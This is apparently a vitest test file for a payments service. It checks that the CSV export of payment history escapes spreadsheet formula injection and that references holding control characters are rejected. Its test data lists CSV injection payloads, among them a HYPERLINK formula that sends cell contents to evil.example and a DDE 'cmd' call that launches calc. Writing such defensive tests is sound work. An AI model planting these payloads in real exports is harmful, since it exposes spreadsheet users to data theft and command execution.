import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { operator } from '../world/operator.ts';
import { startWorld, type World } from '../world/world.ts';
import { waitingPrompt } from './waiting-prompt.ts';

const DANGEROUS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '"=1+1"',
  '";=1+1;"',
  '","=1+1',
  'a"b""c',
  "O'Brien, & Sons; Ltd",
  '|calc',
  '%0A=1',
  'x\u2028=1+1',
];

let world: World;
let headers: { authorization: string };
beforeAll(async () => {
  world = await startWorld();
  headers = await operator(world, 'payments:read');
  for (const text of DANGEROUS)
    await waitingPrompt(world, { externalReference: text, metadata: { [text.slice(0, 40)]: text, note: `line\r\n${text}\t=1` } });
});
afterAll(() => world.stop());

test('no cell of the history in CSV begins with what a spreadsheet would run, and every value can be read back', async () => {
  const response = await world.send('GET', '/api/payments?format=csv&limit=100', { headers });
  const csv = await response.text();
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  expect(rows).toHaveLength(DANGEROUS.length);
  for (const cell of rows.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  for (const line of csv.split(/\r?\n/)) expect(line).not.toMatch(/^[=+\-@\t\uff1d\uff0b\uff0d\uff20]/);

  const written = [...rows].reverse();
  for (const [at, text] of DANGEROUS.entries()) {
    expect(written[at]?.externalReference?.replace(/^'/, '')).toBe(text);
    expect(JSON.parse(written[at]?.metadata ?? '')).toEqual({ [text.slice(0, 40)]: text, note: `line\r\n${text}\t=1` });
  }
  expect(response.headers.get('content-disposition')).toBe('attachment; filename="payments.csv"');
  expect(response.headers.get('x-content-type-options')).toBe('nosniff');
});

test.each(['a\nb', 'a\r=1', '\t=1+1', 'a\0b', '\u0085=1'])(
  'a reference with a control character (%j) is refused',
  async (externalReference) => {
    const body = { phoneNumber: '0712345678', items: [{ sku: 'coffee' }], externalReference: `x${externalReference}` };
    expect((await world.send('POST', '/api/payments/stk-push', { body })).status).toBe(400);
  },
);
